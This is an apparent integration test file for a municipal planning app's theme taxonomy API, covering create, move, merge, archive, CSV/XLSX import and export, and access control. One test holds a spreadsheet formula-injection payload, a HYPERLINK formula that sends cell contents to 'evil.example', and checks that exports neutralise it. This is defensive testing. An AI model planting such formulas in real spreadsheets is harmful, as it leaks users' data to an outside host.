import ExcelJS from 'exceljs';
import { seedDemo } from '../../src/database/seed/demo-seed';
import { startTestApp, type TestApp } from '../support/test-app';
import { buildOrganization, type BuiltOrganization } from '../factories/organization.factory';
import { buildProblem, buildProblemCollection } from '../factories/problem.factory';
import { newPlanBody, personWithRoles } from '../plans/plan-helpers';
import { problemBody } from '../problems/problem-helpers';
import type { TestClient } from '../support/test-client';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

type Theme = { id: string; parentId: string | null; slug: string; name: { fa: string; ar?: string; en?: string }; position: number; isArchived: boolean; colour: string; icon: string; items: Record<string, number> };

describe('the theme taxonomy (admin)', () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(() => t.close());

  async function cityWithAdmin() {
    const org = await buildOrganization(t.db);
    const admin = await personWithRoles(t, org, ['citizen', 'admin'], 'مدیر شهرداری');
    return { org, admin: admin.client, adminId: admin.accountId };
  }

  async function tree(client: TestClient, org: BuiltOrganization): Promise<Theme[]> {
    const res = await client.get(`/api/orgs/${org.slug}/themes`);
    expect(res.status).toBe(200);
    return res.body.themes;
  }

  async function createTheme(client: TestClient, org: BuiltOrganization, body: Record<string, unknown>): Promise<Theme> {
    const res = await client.post(`/api/orgs/${org.slug}/themes`, body);
    expect(res.status).toBe(201);
    return res.body;
  }

  const slugs = (themes: Theme[]) => themes.map((x) => `${x.parentId ? '  ' : ''}${x.slug}`);

  it('creates themes and sub-themes, renames, reorders and moves them, and refuses a third level or a cycle', async () => {
    const { org, admin } = await cityWithAdmin();
    const green = await createTheme(admin, org, { slug: 'green-space', name: { fa: 'فضای سبز' }, colour: '#2E7D32', icon: 'park' });
    expect(green).toMatchObject({ parentId: null, position: 2, colour: '#2e7d32', icon: 'park', isArchived: false });
    const parks = await createTheme(admin, org, { slug: 'parks', name: { fa: 'پارک‌ها' }, parentId: green.id });
    const trees = await createTheme(admin, org, { slug: 'trees', name: { fa: 'درختان' }, parentId: green.id, icon: 'tree' });
    expect(slugs(await tree(admin, org))).toEqual(['transport', 'waste', 'green-space', '  parks', '  trees']);

    const renamed = await admin.patch(`/api/orgs/${org.slug}/themes/${parks.id}`, {
      name: { fa: 'پارك‌ها و بوستان‌ها', ar: 'الحدائق', en: 'Parks' },
      colour: '#aabbcc',
    });
    expect(renamed.status).toBe(200);
    // Persian normalisation of the shared text schema: ك becomes ک.
    expect(renamed.body.name).toEqual({ fa: 'پارک‌ها و بوستان‌ها', ar: 'الحدائق', en: 'Parks' });
    expect((await admin.patch(`/api/orgs/${org.slug}/themes/${parks.id}`, { colour: 'green' })).status).toBe(400);
    expect((await admin.patch(`/api/orgs/${org.slug}/themes/${parks.id}`, { icon: 'unicorn' })).status).toBe(400);
    const taken = await admin.post(`/api/orgs/${org.slug}/themes`, { slug: 'parks', name: { fa: 'تکراری' } });
    expect(taken.status).toBe(409);
    expect(taken.body.code).toBe('themes.slug_taken');

    // Reorder within a parent, then move to the top and back under another parent.
    let moved = await admin.post(`/api/orgs/${org.slug}/themes/${trees.id}/move`, { parentId: green.id, position: 0 });
    expect(moved.status).toBe(200);
    expect(slugs(moved.body.themes)).toEqual(['transport', 'waste', 'green-space', '  trees', '  parks']);
    moved = await admin.post(`/api/orgs/${org.slug}/themes/${green.id}/move`, { parentId: null, position: 0 });
    expect(slugs(moved.body.themes)).toEqual(['green-space', '  trees', '  parks', 'transport', 'waste']);
    moved = await admin.post(`/api/orgs/${org.slug}/themes/${trees.id}/move`, { parentId: org.themeIds[1], position: 5 });
    expect(slugs(moved.body.themes)).toEqual(['green-space', '  parks', 'transport', 'waste', '  trees']);
    expect(moved.body.themes.map((x: Theme) => x.position)).toEqual([0, 0, 1, 2, 0]);

    // Third level: under a sub-theme, or a theme with sub-themes under another.
    const third = await admin.post(`/api/orgs/${org.slug}/themes`, { slug: 'tiny', name: { fa: 'ریز' }, parentId: parks.id });
    expect(third.status).toBe(400);
    expect(third.body.code).toBe('themes.too_deep');
    const deepMove = await admin.post(`/api/orgs/${org.slug}/themes/${green.id}/move`, { parentId: org.themeIds[0], position: 0 });
    expect(deepMove.body.code).toBe('themes.too_deep');
    const cycle = await admin.post(`/api/orgs/${org.slug}/themes/${green.id}/move`, { parentId: parks.id, position: 0 });
    expect(cycle.status).toBe(400);
    expect(cycle.body.code).toBe('themes.cycle');
    expect((await admin.post(`/api/orgs/${org.slug}/themes/${green.id}/move`, { parentId: green.id, position: 0 })).body.code).toBe('themes.cycle');
    // The database keeps the rule too, whatever writes the table.
    await expect(t.db.query(`UPDATE theme SET parent_id = $1 WHERE id = $2`, [parks.id, org.themeIds[0]])).rejects.toThrow(/sub-theme/);
    expect(slugs(await tree(admin, org))).toEqual(['green-space', '  parks', 'transport', 'waste', '  trees']);
  });

  it('merges a theme into another: every problem, committee and upstream direction moves, sub-themes too; the theme is gone', async () => {
    const { org, admin } = await cityWithAdmin();
    const [transport, waste] = org.themeIds;
    const roads = await createTheme(admin, org, { slug: 'roads', name: { fa: 'معابر' }, parentId: transport });
    const collection = await buildProblemCollection(t.db, org.id);
    const where = { organizationId: org.id, ...collection, districtId: org.districtIds[0] };
    const tagged = [
      await buildProblem(t.db, { ...where, themeId: transport }),
      await buildProblem(t.db, { ...where, themeId: transport }, { status: 'under_review', isHidden: true }),
      await buildProblem(t.db, { ...where, themeId: transport }),
    ];
    const other = await buildProblem(t.db, { ...where, themeId: roads.id });
    const plan = (await admin.post(`/api/orgs/${org.slug}/plans`, newPlanBody())).body;
    const committee = await admin.post(`/api/orgs/${org.slug}/plans/${plan.id}/committees`, {
      name: { fa: 'کمیته حمل‌ونقل' },
      themeIds: [transport, waste],
    });
    expect(committee.status).toBe(201);
    const document = await admin.post(`/api/orgs/${org.slug}/plans/${plan.id}/upstream-documents`, {
      level: 'national',
      title: { fa: 'سند ملی' },
      issuer: 'مجلس',
      directions: [
        { text: 'بند یک', themeIds: [transport] },
        { text: 'بند دو', themeIds: [waste, transport] },
        { text: 'بند سه', themeIds: [roads.id] },
      ],
    });
    expect(document.status).toBe(201);

    const before = (await tree(admin, org)).find((x) => x.id === transport)!;
    expect(before.items).toEqual({ problems: 3, committees: 1, upstreamDirections: 2 });

    const merged = await admin.post(`/api/orgs/${org.slug}/themes/${transport}/merge`, { targetId: waste });
    expect(merged.status).toBe(200);
    expect(merged.body).toEqual({ problems: 3, committees: 1, upstreamDirections: 2, subThemes: 1 });

    for (const p of tagged) {
      const [row] = await t.db.query(`SELECT theme_id AS "themeId" FROM problem WHERE id = $1`, [p.id]);
      expect(row.themeId).toBe(waste);
    }
    const [untouched] = await t.db.query(`SELECT theme_id AS "themeId" FROM problem WHERE id = $1`, [other.id]);
    expect(untouched.themeId).toBe(roads.id);
    const listed = await admin.get(`/api/orgs/${org.slug}/problems?themeId=${waste}`);
    expect(listed.body.items.map((p: { id: string }) => p.id).sort()).toEqual([tagged[0].id, tagged[2].id].sort());
    expect((await admin.get(`/api/orgs/${org.slug}/committees/${committee.body.id}`)).body.themeIds).toEqual([waste]);
    const page = (await admin.get(`/api/orgs/${org.slug}/plans/${plan.id}`)).body;
    const directions = page.upstreamDocuments[0].directions.map((d: { themeIds: string[] }) => d.themeIds);
    expect(directions).toEqual([[waste], [waste], [roads.id]]);

    const after = await tree(admin, org);
    expect(slugs(after)).toEqual(['waste', '  roads']);
    expect(after[0].items).toEqual({ problems: 3, committees: 1, upstreamDirections: 2 });
    // The map's per-theme cells followed the problems.
    const cells = await t.db.query(`SELECT DISTINCT theme_id AS "themeId" FROM problem_map_cell WHERE organization_id = $1 AND count > 0`, [org.id]);
    expect(cells.map((c: { themeId: string }) => c.themeId).sort()).toEqual([roads.id, waste].sort());

    const audit = await admin.get(`/api/orgs/${org.slug}/audit?entityType=theme&entityId=${transport}`);
    expect(audit.body.items[0]).toMatchObject({
      action: 'theme.merged',
      before: { slug: 'transport' },
      after: { mergedInto: { id: waste, slug: 'waste' }, moved: merged.body, subThemes: ['roads'] },
    });
  });

  it('refuses to merge a theme into itself or its own sub-theme, and changes nothing', async () => {
    const { org, admin } = await cityWithAdmin();
    const [transport] = org.themeIds;
    const bus = await createTheme(admin, org, { slug: 'bus', name: { fa: 'اتوبوس' }, parentId: transport });
    const collection = await buildProblemCollection(t.db, org.id);
    const problem = await buildProblem(t.db, { organizationId: org.id, ...collection, districtId: org.districtIds[0], themeId: transport });
    const before = await tree(admin, org);

    for (const targetId of [bus.id, transport]) {
      const refused = await admin.post(`/api/orgs/${org.slug}/themes/${transport}/merge`, { targetId });
      expect(refused.status).toBe(400);
      expect(refused.body.code).toBe('themes.merge_into_descendant');
      expect(refused.body.fields).toEqual({ targetId: 'invalid_value' });
    }
    // A theme with sub-themes cannot go under a sub-theme either.
    const other = await createTheme(admin, org, { slug: 'metro', name: { fa: 'مترو' }, parentId: org.themeIds[1] });
    expect((await admin.post(`/api/orgs/${org.slug}/themes/${transport}/merge`, { targetId: other.id })).body.code).toBe('themes.too_deep');

    const after = (await tree(admin, org)).filter((x) => x.id !== other.id);
    expect(after).toEqual(before);
    const [row] = await t.db.query(`SELECT theme_id AS "themeId" FROM problem WHERE id = $1`, [problem.id]);
    expect(row.themeId).toBe(transport);
    const merges = await t.db.query(`SELECT 1 FROM audit_entry WHERE organization_id = $1 AND action = 'theme.merged'`, [org.id]);
    expect(merges).toHaveLength(0);
  });

  it('archives a theme: old items keep it and show its name, new items cannot take it; unarchiving offers it again', async () => {
    const { org, admin } = await cityWithAdmin();
    const [transport, waste] = org.themeIds;
    const bus = await createTheme(admin, org, { slug: 'bus', name: { fa: 'اتوبوس' }, parentId: transport });
    const { activityId } = await buildProblemCollection(t.db, org.id);
    const citizen = await personWithRoles(t, org, ['citizen'], 'شهروند');
    const old = await citizen.client.post(`/api/orgs/${org.slug}/activities/${activityId}/problems`, problemBody(org, { themeId: transport }));
    expect(old.status).toBe(201);
    const plan = (await admin.post(`/api/orgs/${org.slug}/plans`, newPlanBody())).body;
    const committee = (await admin.post(`/api/orgs/${org.slug}/plans/${plan.id}/committees`, { name: { fa: 'کمیته' }, themeIds: [transport] })).body;

    const archived = await admin.post(`/api/orgs/${org.slug}/themes/${transport}/archive`);
    expect(archived.status).toBe(200);
    expect(archived.body.themes.filter((x: Theme) => x.isArchived).map((x: Theme) => x.slug)).toEqual(['transport', 'bus']);

    // The public description marks it (old items still find its name); pickers leave it out.
    const described = (await citizen.client.get(`/api/orgs/${org.slug}`)).body;
    expect(described.themes.find((x: Theme) => x.id === transport)).toMatchObject({ isArchived: true, name: { fa: 'حمل‌ونقل' } });
    expect(described.themes.find((x: Theme) => x.id === waste).isArchived).toBe(false);

    const refused = await citizen.client.post(`/api/orgs/${org.slug}/activities/${activityId}/problems`, problemBody(org, { themeId: transport, title: 'مشکلی تازه در اتوبوس‌رانی' }));
    expect(refused.status).toBe(409);
    expect(refused.body.code).toBe('organizations.theme_archived');
    expect((await citizen.client.post(`/api/orgs/${org.slug}/activities/${activityId}/problems`, problemBody(org, { themeId: bus.id }))).body.code).toBe('organizations.theme_archived');
    expect((await citizen.client.get(`/api/orgs/${org.slug}/problems/${old.body.id}`)).body.themeId).toBe(transport);
    // A committee keeps it when edited, but a new one cannot take it.
    const kept = await admin.patch(`/api/orgs/${org.slug}/committees/${committee.id}`, { name: { fa: 'کمیته حمل‌ونقل' }, themeIds: [transport, waste] });
    expect(kept.status).toBe(200);
    const fresh = await admin.post(`/api/orgs/${org.slug}/plans/${plan.id}/committees`, { name: { fa: 'کمیته تازه' }, themeIds: [transport] });
    expect(fresh.body.code).toBe('organizations.theme_archived');

    // A sub-theme cannot come back while its parent is archived; the parent brings it back.
    expect((await admin.delete(`/api/orgs/${org.slug}/themes/${bus.id}/archive`)).body.code).toBe('themes.parent_archived');
    const restored = await admin.delete(`/api/orgs/${org.slug}/themes/${transport}/archive`);
    expect(restored.body.themes.every((x: Theme) => !x.isArchived)).toBe(true);
    const again = await citizen.client.post(`/api/orgs/${org.slug}/activities/${activityId}/problems`, problemBody(org, { themeId: bus.id, title: 'مشکل ایستگاه اتوبوس' }));
    expect(again.status).toBe(201);

    const actions = (await admin.get(`/api/orgs/${org.slug}/audit?entityType=theme`)).body.items.map((e: { action: string }) => e.action);
    expect(actions.filter((a: string) => a === 'theme.archived')).toHaveLength(2);
    expect(actions.filter((a: string) => a === 'theme.unarchived')).toHaveLength(2);
    const entry = (await admin.get(`/api/orgs/${org.slug}/audit?entityType=theme&entityId=${transport}`)).body.items.find((e: { action: string }) => e.action === 'theme.archived');
    expect(entry.before.archivedAt).toBeNull();
    expect(typeof entry.after.archivedAt).toBe('string');
  });

  it('exports CSV and XLSX that import back as no change', async () => {
    const { org, admin } = await cityWithAdmin();
    const green = await createTheme(admin, org, { slug: 'green', name: { fa: 'فضای سبز', ar: 'المساحات الخضراء', en: 'Green, "parks"' }, colour: '#388e3c', icon: 'park' });
    await createTheme(admin, org, { slug: 'parks', name: { fa: 'پارک‌ها' }, parentId: green.id });
    await admin.post(`/api/orgs/${org.slug}/themes/${org.themeIds[1]}/archive`);
    const before = await tree(admin, org);

    const csv = await admin.get(`/api/orgs/${org.slug}/themes/export.csv`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.headers.get('content-disposition')).toContain(`themes-${org.slug}.csv`);
    const lines = csv.text.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('slug,parent_slug,name_fa,name_ar,name_en,colour,icon,position,archived');
    expect(lines).toContain('green,,فضای سبز,المساحات الخضراء,"Green, ""parks""",#388e3c,park,2,false');
    expect(lines).toContain('waste,,پسماند,,waste,#607d8b,tag,1,true');
    expect(lines).toContain('parks,green,پارک‌ها,,,#607d8b,tag,0,false');

    const reimportCsv = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, csv.bytes, { 'content-type': 'text/csv' });
    expect(reimportCsv.status).toBe(200);
    expect(reimportCsv.body).toEqual({ dryRun: false, applied: true, rows: 4, created: 0, updated: 0, unchanged: 4, problems: [] });

    const xlsx = await admin.get(`/api/orgs/${org.slug}/themes/export.xlsx`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe(XLSX_TYPE);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.getRow(1).values).toEqual([undefined, 'slug', 'parent_slug', 'name_fa', 'name_ar', 'name_en', 'colour', 'icon', 'position', 'archived']);
    expect(sheet.rowCount).toBe(5);
    const reimportXlsx = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, xlsx.bytes, { 'content-type': XLSX_TYPE });
    expect(reimportXlsx.body).toMatchObject({ applied: true, created: 0, updated: 0, unchanged: 4, problems: [] });

    expect(await tree(admin, org)).toEqual(before);
    const imports = await t.db.query(`SELECT 1 FROM audit_entry WHERE organization_id = $1 AND action = 'theme.imported'`, [org.id]);
    expect(imports).toHaveLength(0);
  });

  it('imports a file: dry run reports without saving, then upserts by slug in one go, audited', async () => {
    const { org, admin } = await cityWithAdmin();
    const file = [
      'slug,parent_slug,name_fa,name_ar,name_en,colour,icon,position,archived',
      'transport,,حمل و نقل عمومی,النقل,Transport,#1565c0,transport,0,false',
      'metro,transport,مترو,,Metro,#0d47a1,transport,0,false',
      'bicycle,transport,دوچرخه,,,,bicycle,1,',
      'lighting,,روشنایی معابر,,Street lighting,#f9a825,lighting,5,false',
    ].join('\n');
    const dry = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import?dryRun=true`, Buffer.from(file), { 'content-type': 'text/csv' });
    expect(dry.body).toEqual({ dryRun: true, applied: false, rows: 4, created: 3, updated: 1, unchanged: 0, problems: [] });
    expect(slugs(await tree(admin, org))).toEqual(['transport', 'waste']);

    const applied = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.from(file), { 'content-type': 'text/csv' });
    expect(applied.body).toMatchObject({ applied: true, created: 3, updated: 1 });
    const themes = await tree(admin, org);
    expect(slugs(themes)).toEqual(['transport', '  metro', '  bicycle', 'waste', 'lighting']);
    expect(themes[0]).toMatchObject({ id: org.themeIds[0], name: { fa: 'حمل و نقل عمومی', ar: 'النقل', en: 'Transport' }, colour: '#1565c0', icon: 'transport' });
    expect(themes[4].position).toBe(2);
    const entries = (await admin.get(`/api/orgs/${org.slug}/audit?entityType=theme`)).body.items;
    expect(entries.filter((e: { action: string }) => e.action === 'theme.imported')).toHaveLength(1);
    expect(entries.filter((e: { action: string }) => e.action === 'theme.created')).toHaveLength(3);
  });

  it('reports every problem of a bad file by row and column, and saves nothing', async () => {
    const { org, admin } = await cityWithAdmin();
    await createTheme(admin, org, { slug: 'bus', name: { fa: 'اتوبوس' }, parentId: org.themeIds[0] });
    const file = [
      'slug,parent_slug,name_fa,name_en,colour,icon',
      'roads,nowhere,معابر,Roads,#123456,road',
      'roads,,معابر دوباره,,,',
      'Bad Slug,,بد,,,',
      'paint,,رنگ,,red,tag',
      'night,bus,شب,,,',
      'plain,,,Plain,,',
      'icon,,نشان,,,dragon',
      'transport,waste,حمل‌ونقل,,,',
    ].join('\r\n');
    const res = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.from(file), { 'content-type': 'text/csv' });
    expect(res.status).toBe(200);
    expect(res.body.applied).toBe(false);
    expect(res.body.problems).toEqual([
      { row: 2, column: 'parent_slug', problem: 'unknown_parent' },
      { row: 3, column: 'slug', problem: 'duplicate_slug' },
      { row: 4, column: 'slug', problem: 'bad_slug' },
      { row: 5, column: 'colour', problem: 'bad_colour' },
      { row: 6, column: 'parent_slug', problem: 'third_level' },
      { row: 7, column: 'name_fa', problem: 'missing_persian_name' },
      { row: 8, column: 'icon', problem: 'bad_icon' },
      { row: 9, column: 'parent_slug', problem: 'third_level' },
    ]);
    expect(slugs(await tree(admin, org))).toEqual(['transport', '  bus', 'waste']);

    const noHeader = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.from('a,b\n1,2'), { 'content-type': 'text/csv' });
    expect(noHeader.body.problems).toEqual([
      { row: 1, column: 'slug', problem: 'missing_header' },
      { row: 1, column: 'name_fa', problem: 'missing_header' },
    ]);
    const broken = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.from('PK\u0003\u0004not a zip'), { 'content-type': XLSX_TYPE });
    expect(broken.body.problems).toEqual([{ row: 1, column: null, problem: 'unreadable_file' }]);
    // The same check from an HTML form (multipart/form-data with the file in it).
    const form = new FormData();
    form.append('dryRun', 'true');
    form.append('file', new Blob([file], { type: 'text/csv' }), 'themes.csv');
    const request = new Request('http://localhost/', { method: 'POST', body: form });
    const formBytes = Buffer.from(await request.arrayBuffer());
    const formType = request.headers.get('content-type')!;
    const multipart = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, formBytes, { 'content-type': formType });
    expect(multipart.status).toBe(200);
    expect(multipart.body.problems).toEqual(res.body.problems);
    const noFile = new FormData();
    noFile.append('note', 'no file here');
    const empty = new Request('http://localhost/', { method: 'POST', body: noFile });
    const refusedForm = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.from(await empty.arrayBuffer()), {
      'content-type': empty.headers.get('content-type')!,
    });
    expect(refusedForm.status).toBe(415);
    // Other routes still refuse a form.
    const elsewhere = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes`, formBytes, { 'content-type': formType });
    expect(elsewhere.status).toBe(415);
    const json = await admin.post(`/api/orgs/${org.slug}/themes/import`, { slug: 'x' });
    expect(json.status).toBe(415);
    const tooBig = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.alloc(6 * 1024 * 1024, 0x61), { 'content-type': 'text/csv' });
    expect(tooBig.status).toBe(413);
    expect(await t.db.query(`SELECT 1 FROM audit_entry WHERE organization_id = $1 AND action LIKE 'theme.%' AND action <> 'theme.created'`, [org.id])).toHaveLength(0);
  });

  it('neutralises formulas in exports, and a re-import gives the names back as typed', async () => {
    const { org, admin } = await cityWithAdmin();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"کلیک")';
    await admin.patch(`/api/orgs/${org.slug}/themes/${org.themeIds[0]}`, { name: { fa: evil, en: '+1+2', ar: '@SUM(1)' } });
    const csv = await admin.get(`/api/orgs/${org.slug}/themes/export.csv`);
    expect(csv.text).toContain(`transport,,"'=HYPERLINK(""http://evil.example/?""&A1,""کلیک"")",'@SUM(1),'+1+2,`);
    const xlsx = await admin.get(`/api/orgs/${org.slug}/themes/export.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const row = workbook.worksheets[0].getRow(2);
    expect(row.getCell(3).value).toBe(`'${evil}`);
    expect(row.getCell(3).formula).toBeUndefined();

    const back = await admin.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, xlsx.bytes, { 'content-type': XLSX_TYPE });
    expect(back.body).toMatchObject({ applied: true, unchanged: 2, updated: 0 });
    expect((await tree(admin, org))[0].name).toEqual({ fa: evil, ar: '@SUM(1)', en: '+1+2' });
  });

  it('lets planners read the tree but only admins change it; another municipality can neither read nor change it', async () => {
    const { org, admin } = await cityWithAdmin();
    const other = await cityWithAdmin();
    const planner = await personWithRoles(t, org, ['citizen', 'planner']);
    const citizen = await personWithRoles(t, org, ['citizen']);
    expect((await planner.client.get(`/api/orgs/${org.slug}/themes`)).status).toBe(200);
    expect((await planner.client.get(`/api/orgs/${org.slug}/themes/export.csv`)).status).toBe(200);
    expect((await planner.client.post(`/api/orgs/${org.slug}/themes`, { slug: 'x', name: { fa: 'ایکس' } })).status).toBe(403);
    expect((await citizen.client.get(`/api/orgs/${org.slug}/themes`)).status).toBe(403);

    // The other city's admin, on this city's routes: not a member.
    const foreign = other.admin;
    for (const res of [
      await foreign.get(`/api/orgs/${org.slug}/themes`),
      await foreign.get(`/api/orgs/${org.slug}/themes/export.xlsx`),
      await foreign.patch(`/api/orgs/${org.slug}/themes/${org.themeIds[0]}`, { name: { fa: 'ربوده' } }),
      await foreign.post(`/api/orgs/${org.slug}/themes/${org.themeIds[0]}/archive`),
      await foreign.rawBytes('POST', `/api/orgs/${org.slug}/themes/import`, Buffer.from('slug,name_fa\nx,ایکس'), { 'content-type': 'text/csv' }),
    ]) {
      expect(res.status).toBe(403);
      expect(res.body.code).toBe('identity.not_a_member');
    }
    // On its own routes, this city's theme ids are not found.
    const own = `/api/orgs/${other.org.slug}/themes`;
    expect((await foreign.patch(`${own}/${org.themeIds[0]}`, { name: { fa: 'ربوده' } })).body.code).toBe('organizations.theme_not_found');
    expect((await foreign.post(`${own}/${org.themeIds[0]}/move`, { parentId: null, position: 0 })).status).toBe(404);
    expect((await foreign.post(`${own}/${org.themeIds[0]}/merge`, { targetId: other.org.themeIds[0] })).status).toBe(404);
    expect((await foreign.post(`${own}/${other.org.themeIds[0]}/merge`, { targetId: org.themeIds[0] })).body.code).toBe('organizations.theme_not_found');
    expect((await foreign.post(own, { slug: 'child', name: { fa: 'فرزند' }, parentId: org.themeIds[0] })).status).toBe(404);
    expect((await foreign.post(`${own}/${org.themeIds[1]}/archive`)).status).toBe(404);
    // Import into its own city with this city's slug names a theme of its own, never this one.
    await foreign.rawBytes('POST', `${own}/import`, Buffer.from('slug,name_fa\ntransport,دزدیده'), { 'content-type': 'text/csv' });
    expect((await tree(admin, org)).map((x) => x.name.fa)).toEqual(['حمل‌ونقل', 'پسماند']);
    expect((await admin.get(`/api/orgs/${org.slug}/themes/nonsense/move`)).status).toBe(404);
  });

  it('lets the demo seed run again after an admin reshaped the demo taxonomy', async () => {
    await seedDemo(t.databaseUrl);
    const [city] = await t.db.query(`SELECT id, slug FROM organization WHERE slug = 'isfahan'`);
    const admin = await personWithRoles(t, { id: city.id, slug: city.slug, districtIds: [], themeIds: [] }, ['citizen', 'admin']);
    const bySlug = async () => new Map((await tree(admin.client, city)).map((x) => [x.slug, x]));
    let themes = await bySlug();
    // Green space loses its sub-themes to a merge, then becomes a sub-theme of transport.
    for (const child of ['parks', 'urban-trees']) {
      expect((await admin.client.post(`/api/orgs/isfahan/themes/${themes.get(child)!.id}/merge`, { targetId: themes.get('waste')!.id })).status).toBe(200);
    }
    const moved = await admin.client.post(`/api/orgs/isfahan/themes/${themes.get('green-space')!.id}/move`, { parentId: themes.get('transport')!.id, position: 0 });
    expect(moved.status).toBe(200);

    await seedDemo(t.databaseUrl);
    themes = await bySlug();
    expect(themes.get('green-space')!.parentId).toBe(themes.get('transport')!.id);
    expect(themes.has('parks')).toBe(false);
  });
});
